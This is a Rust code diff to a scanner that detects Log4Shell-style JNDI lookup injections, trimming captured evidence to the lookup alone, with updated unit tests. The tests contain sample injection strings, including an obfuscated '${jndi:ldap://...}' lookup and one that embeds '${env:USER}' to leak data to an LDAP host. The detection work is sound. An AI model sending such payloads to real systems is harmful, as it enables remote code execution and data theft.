@@ -39,7 +39,30 @@ pub(super) fn find(raw: &[u8], spellers: &AhoCorasick) -> Option<Vec<u8>> {
         return None;
     }
     let resolved = resolve_lookups(&decoded);
-    find_jndi(&resolved).map(|at| resolved[at..].to_vec())
+    let at = find_jndi(&resolved)?;
+    // Only the lookup itself: what follows it (the rest of a cookie, say) is none of ours.
+    Some(resolved[at..lookup_end(&resolved, at)].to_vec())
+}
+
+/// The end of the lookup that opens at `at` (just past its closing brace), or the text's end.
+fn lookup_end(text: &[u8], at: usize) -> usize {
+    let mut depth = 0usize;
+    let mut i = at;
+    while i < text.len() {
+        if text[i] == b'$' && text.get(i + 1) == Some(&b'{') {
+            depth += 1;
+            i += 2;
+            continue;
+        }
+        if text[i] == b'}' {
+            depth -= 1;
+            if depth == 0 {
+                return i + 1;
+            }
+        }
+        i += 1;
+    }
+    text.len()
 }
 
 /// An automaton for [`SPELLERS`], which [`find`] takes.
@@ -208,8 +231,16 @@ mod tests {
     }
 
     #[test]
-    fn evidence_starts_at_the_lookup() {
+    fn evidence_is_the_lookup_alone() {
         let ev = find(b"x=${${lower:j}ndi:ldap://e/a}", &spellers()).unwrap();
         assert_eq!(ev, b"${jndi:ldap://e/a}");
+        let ev = find(
+            b"a=${jndi:ldap://e/${env:USER}}; session=secret",
+            &spellers(),
+        )
+        .unwrap();
+        assert_eq!(ev, b"${jndi:ldap://e/${env:USER}}");
+        let ev = find(b"${jndi:ldap://unclosed", &spellers()).unwrap();
+        assert_eq!(ev, b"${jndi:ldap://unclosed");
     }
 }
